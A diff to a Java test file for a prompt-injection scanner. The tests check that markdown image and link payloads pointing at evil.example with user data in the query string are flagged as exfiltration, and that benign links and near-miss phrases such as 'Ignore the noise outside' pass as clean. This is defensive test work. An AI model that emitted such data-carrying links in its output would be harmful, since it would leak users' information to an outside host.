@@ -10,8 +10,9 @@ class InjectionScannerTest {
 
   private final InjectionScanner scanner = new InjectionScanner();
 
-  private InjectionScanner.Kind kind(String text) {
-    return scanner
+  /** The kind of the first finding; fails when the text is clean. */
+  static InjectionScanner.Kind kind(String text) {
+    return new InjectionScanner()
         .scan(text)
         .orElseThrow(() -> new AssertionError("clean: " + text))
         .findings()
@@ -47,7 +48,8 @@ class InjectionScannerTest {
 
   @Test
   void exfiltrationThroughImagesAndLinksIsCaught() {
-    assertEquals(InjectionScanner.Kind.EXFILTRATION, kind("![logo](https://evil.example/p.png)"));
+    assertEquals(
+        InjectionScanner.Kind.EXFILTRATION, kind("![logo](https://evil.example/p.png?u=maria)"));
     assertEquals(
         InjectionScanner.Kind.EXFILTRATION, kind("[click](https://evil.example/c?data=abc)"));
     assertEquals(
@@ -71,6 +73,7 @@ class InjectionScannerTest {
             "I moved to Porto last week and I love it!",
             "Our docs are at https://example.com/docs/getting-started",
             "[the spec](https://example.com/spec) says so",
+            "![logo](https://example.com/logo.png)",
             "Family: 👨‍👩‍👧 and ❤️",
             "می‌خواهم",
             "Ignore the noise outside, it's just construction.",
